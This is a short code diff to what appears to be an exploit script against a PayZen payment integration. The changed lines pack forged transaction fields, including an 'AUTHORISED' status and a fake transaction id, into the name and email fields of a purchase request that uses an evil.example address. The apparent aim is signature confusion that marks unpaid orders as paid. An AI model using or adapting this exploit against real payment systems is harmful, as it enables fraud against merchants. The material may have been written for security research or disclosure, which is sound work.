@@ -28,9 +28,8 @@ extension Attack {
               ('trans_date', mine['vads_trans_date']), ('trans_id', mine['vads_trans_id']),
               ('trans_status', 'AUTHORISED'), ('trans_uuid', 'deadbeef')]
     if sys.argv[1] == 'buy':
-        email = 'a+' + '+'.join(value for _, value in claims[:8]) + '+b@evil.example'
-        name = '+'.join(value for _, value in claims[8:]) + '+c'
-        print(urllib.parse.urlencode({'provider': 'payzen', 'email': email, 'name': name}))
+        name = 'a+' + '+'.join(value for _, value in claims) + '+b'
+        print(urllib.parse.urlencode({'provider': 'payzen', 'email': 'a+b@evil.example', 'name': name}))
     else:
         form = fields('bought')
         pieces = '+'.join(form[name] for name in sorted(form) if name.startswith('vads_')).split('+')
